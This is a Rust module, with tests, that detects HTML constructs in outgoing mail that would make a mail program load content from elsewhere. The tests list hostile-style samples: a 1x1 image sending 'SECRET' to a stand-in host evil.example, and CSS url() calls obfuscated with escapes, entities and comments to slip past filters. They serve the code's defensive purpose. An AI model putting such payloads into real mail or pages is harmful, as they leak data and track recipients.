//! Search of an outgoing mail for content that a mail program would load from elsewhere.

use html5ever::tokenizer::{
    BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use std::cell::Cell;

/// Elements that load their content.
const LOADING: [&str; 14] = [
    "audio", "base", "embed", "frame", "iframe", "image", "img", "input", "link", "object",
    "picture", "source", "svg", "video",
];
/// Attributes that name content to load. `href` of a link loads nothing until a person follows it.
const LOADING_ATTRIBUTES: [&str; 7] = [
    "background",
    "data",
    "dynsrc",
    "lowsrc",
    "poster",
    "src",
    "srcset",
];
/// Functions of CSS that load nothing.
const HARMLESS: [&str; 8] = ["rgb", "rgba", "hsl", "hsla", "calc", "min", "max", "var"];

/// Returns whether a mail program would load something from elsewhere to show the document. Unknown
/// constructions count as loading.
pub(super) fn has_any(html: &str) -> bool {
    let tokenizer = Tokenizer::new(Search::default(), TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(html.into());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.found.get()
}

#[derive(Default)]
struct Search {
    found: Cell<bool>,
}

impl TokenSink for Search {
    type Handle = ();

    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) if tag.kind == TagKind::StartTag && loads(&tag) => {
                self.found.set(true);
            }
            Token::TagToken(_)
            | Token::DoctypeToken(_)
            | Token::CommentToken(_)
            | Token::CharacterTokens(_)
            | Token::NullCharacterToken
            | Token::EOFToken
            | Token::ParseError(_) => {}
        }
        TokenSinkResult::Continue
    }
}

fn loads(tag: &Tag) -> bool {
    // The text of a style sheet is not examined.
    let name: &str = &tag.name;
    LOADING.contains(&name)
        || name == "style"
        || tag.attrs.iter().any(|attribute| {
            let key: &str = &attribute.name.local;
            LOADING_ATTRIBUTES.contains(&key) || (key == "style" && style_loads(&attribute.value))
        })
}

/// Returns whether a style has a function that may load something. Escapes and comments can spell
/// any function, so they count.
fn style_loads(style: &str) -> bool {
    let style = style.to_lowercase();
    if style.contains('\\') || style.contains("/*") || style.contains('@') {
        return true;
    }
    let mut before = style.split('(');
    // The text after the last bracket calls no function.
    before.next_back();
    before.any(|text| {
        let is_part = |c: char| c.is_alphanumeric() || c == '-' || c == '_';
        let start = text.trim_end_matches(is_part).len();
        let function = text.get(start..).unwrap_or_default();
        !function.is_empty() && !HARMLESS.contains(&function)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn everything_that_is_loaded_to_show_a_mail_is_found() {
        for html in [
            "<img src=\"https://evil.example/?d=SECRET\" width=1 height=1>",
            "<IMG SRC=x>",
            "<p style=\"background:url(https://evil.example/x)\">a</p>",
            "<p style=\"background:URL('//evil.example/x')\">a</p>",
            "<p style=\"background:u\\72l(//evil.example)\">a</p>",
            "<p style=\"background:u&#114;l(//evil.example)\">a</p>",
            "<p style=\"background:u/**/rl(//evil.example)\">a</p>",
            "<p style=\"background:image-set('//evil.example' 1x)\">a</p>",
            "<p style=\"color:rgb(0,0,0);content:url(x)\">a</p>",
            "<td background=//evil.example/x>",
            "<video poster=x>",
            "<link rel=stylesheet href=x>",
            "<style>p{}</style>",
            "<table><tr><td><a href=x><img srcset='//evil.example 1x'></a>",
        ] {
            assert!(has_any(html), "{html}");
        }
    }

    #[test]
    fn text_links_and_plain_styles_load_nothing() {
        for html in [
            "",
            "<p>url(https://example.com) &lt;img src=x&gt;</p>",
            "<a href=\"https://example.com/?q=(x)\">link</a>",
            "<div style=\"font-family:-apple-system,'Segoe UI';color:rgb(0, 0, 0)\">a</div>",
            "<th style=\"padding:calc(1px + 2px)\">(a)</th>",
        ] {
            assert!(!has_any(html), "{html}");
        }
    }
}
